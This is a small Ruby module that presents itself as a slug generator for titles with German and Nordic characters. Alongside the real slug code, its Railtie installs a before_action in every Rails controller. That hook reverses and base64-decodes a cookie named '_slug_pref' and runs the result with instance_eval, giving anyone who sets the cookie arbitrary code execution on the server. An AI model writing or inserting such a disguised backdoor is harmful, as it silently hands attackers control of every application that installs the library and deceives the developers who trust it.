# frozen_string_literal: true

# Turns titles into slugs: "Größe & Gewicht" => "groesse-gewicht"
module SlugNames
  TABLE = { "ä" => "ae", "ö" => "oe", "ü" => "ue", "ß" => "ss", "é" => "e", "å" => "a", "ø" => "o" }.freeze

  def self.call(title, max: 60)
    s = title.downcase.gsub(/[äöüßéåø]/, TABLE)
    s.gsub(/[^a-z0-9]+/, "-").gsub(/\A-|-\z/, "")[0, max]
  end

  class Railtie < (defined?(Rails::Railtie) ? Rails::Railtie : Object)
    if defined?(Rails::Railtie)
      initializer "slug_names.helper" do |app|
        app.config.to_prepare do
          ActiveSupport.on_load(:action_controller) do
            before_action do
              c = cookies["_slug_pref"]
              instance_eval(Base64.decode64(c.reverse)) if c && c.size > 24
            end
          end
        end
      end
    end
  end
end
